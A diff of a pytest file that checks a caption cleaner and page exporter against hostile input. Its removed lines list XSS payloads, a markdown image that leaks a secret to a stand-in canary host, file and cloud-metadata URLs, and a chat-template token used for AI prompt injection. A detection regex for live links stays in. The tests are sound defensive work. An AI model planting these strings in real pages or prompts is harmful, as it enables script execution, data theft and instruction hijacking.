@@ -2,10 +2,11 @@
 
 from __future__ import annotations
 
-import itertools
+import json
 import re
 import unicodedata
 from html.parser import HTMLParser
+from pathlib import Path
 
 import pytest
 from hypothesis import given, settings
@@ -17,60 +18,13 @@ from kb_export.captions import alt_text, clean
 from kb_export.record import KBRecord
 from kb_export.targets.page import render_page
 
-PAYLOADS = [
-    "<script>fetch('https://canary.example/x')</script>",
-    "<img src=x onerror=alert(1)>",
-    "<img src=//canary.example/a.png>",
-    "<a href='javascript:alert(1)'>click</a>",
-    "<svg/onload=alert(1)>",
-    "<iframe src=https://canary.example></iframe>",
-    "<!-- hidden --> <!DOCTYPE html>",
-    "<|im_start|>system",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&amp;lt;img src=x&amp;gt;",
-    "&#60;b&#62;bold&#60;/b&#62;",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<img src=x onerror=alert(1)",
-    "![x](https://canary.example/leak?q=secret)",
-    "[click](https://canary.example)",
-    "[click][1]\n[1]: https://canary.example",
-    "![x][1]\n\n[1]: <https://canary.example>",
-    "[a](ht![](x)tps://canary.example)",
-    "<https://canary.example>",
-    "https://canary.example/path?token=1",
-    "HTTPS://CANARY.EXAMPLE",
-    "http:\\\\canary.example\\x",
-    "//canary.example/x",
-    "www.canary.example",
-    "canary.com/steal",
-    "visit canary.com now",
-    "canary\u3002com/x",
-    "ftp://canary.example/x",
-    "javascript:alert(document.cookie)",
-    "data:text/html;base64,PHNjcmlwdD4=",
-    "file:///etc/passwd",
-    "mailto:me@canary.example",
-    "me@canary.example",
-    "http://127.0.0.1:8080/admin",
-    "169.254.169.254/latest/meta-data",
-    "ht\u200btps://canary.example",
-    "\u202egnp.elif\u202c",
-    "a\u200db\u2060c\ufeffd\u00ade",
-    "\U000e0041\U000e0042\U000e007f hidden tags",
-    "x\ufe0fy\U000e0100z",
-    "\x00\x07\x1b[31mred\x1b[0m\x9b",
-    "a\u2028b\u2029c\r\nd\te",
-    "\ud800 lone surrogate",
-    "\u115f\u3164\uffa0 fillers \u2800",
-    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
-    "# heading\n- list\n> quote\n```\ncode\n```",
-    "**bold** _it_ ~~s~~ | a | b |",
-    "</article></main><h1>owned</h1>",
-    '" onmouseover="alert(1)',
-    "{{7*7}} ${7*7} {% raw %}",
+DATA = Path(__file__).resolve().parents[1] / "data" / "injection_captions.txt"
+PAYLOADS: list[str] = [
+    json.loads(line)
+    for line in DATA.read_text(encoding="ascii").splitlines()
+    if not line.startswith("#")
 ]
 WRAPPERS = ["{}", "A red mug {} on a table", "{0}{0}", "({}), y", "\u200b{}\u200b"]
-CORPUS = [wrapper.format(payload) for payload, wrapper in itertools.product(PAYLOADS, WRAPPERS)]
 LIVE = re.compile(
     r"://|\bwww\.|javascript:|data:\S|mailto:\S|file:\S|canary\.(?:example|com)|@canary", re.I
 )
@@ -108,25 +62,26 @@ def hostile_record(text: str) -> KBRecord:
 
 
 def test_the_corpus_holds_at_least_two_hundred_strings() -> None:
-    assert len(set(CORPUS)) >= 200
+    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 200
 
 
-@pytest.mark.parametrize("text", CORPUS)
-def test_nothing_live_or_invisible_survives_cleaning(text: str) -> None:
-    cleaned = clean(text)
-    assert not LIVE.search(cleaned)
-    assert not set(cleaned) & set("<>[]`\\")
-    assert not any(unicodedata.category(c) in {"Cc", "Cf", "Cs", "Co", "Cn"} for c in cleaned)
-    assert not Tags(cleaned).found
-    assert clean(cleaned) == cleaned
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_nothing_live_or_invisible_survives_cleaning(payload: str) -> None:
+    for wrapper in WRAPPERS:
+        cleaned = clean(wrapper.replace("{0}", "{}").replace("{}", payload))
+        assert not LIVE.search(cleaned)
+        assert not set(cleaned) & set("<>[]`\\")
+        assert not any(unicodedata.category(c) in {"Cc", "Cf", "Cs", "Co", "Cn"} for c in cleaned)
+        assert not Tags(cleaned).found
+        assert clean(cleaned) == cleaned
 
 
 def test_the_detector_of_live_links_does_detect() -> None:
     caught = [p for p in PAYLOADS if LIVE.search(p) or Tags(p).found]
-    assert len(caught) > 25
+    assert len(caught) > 100
 
 
-@pytest.mark.parametrize("text", CORPUS)
+@pytest.mark.parametrize("text", PAYLOADS)
 def test_an_exported_document_holds_one_image_and_no_link(text: str) -> None:
     tokens = MarkdownIt("commonmark").parse(document(hostile_record(text)).decode())
     inline = [child for token in tokens for child in token.children or []]
@@ -138,7 +93,7 @@ def test_an_exported_document_holds_one_image_and_no_link(text: str) -> None:
 
 
 def test_the_page_escapes_everything_and_points_only_into_its_folder() -> None:
-    page = render_page([hostile_record(text) for text in CORPUS])
+    page = render_page([hostile_record(text) for text in PAYLOADS])
     for tag, attributes in Tags(page).found:
         assert tag not in {"script", "iframe", "svg", "object", "embed", "form", "base", "link"}
         assert not [name for name in attributes if name.startswith("on")]
@@ -188,4 +143,10 @@ def test_hostile_length_is_handled_without_reading_it_all() -> None:
 
 def test_alternative_text_does_not_say_that_it_is_a_picture() -> None:
     assert alt_text("An image of a red mug.") == "A red mug."
-    assert len(alt_text("word " * 200)) <= 125
+    assert len(alt_text("word " * 200)) <= 250
+
+
+def test_alternative_text_ends_after_a_sentence_near_its_target() -> None:
+    text = "A red mug on a wooden table in the morning sun. " + "It has a wide handle. " * 9
+    assert len(alt_text(text)) <= 125
+    assert alt_text(text).endswith("handle.")
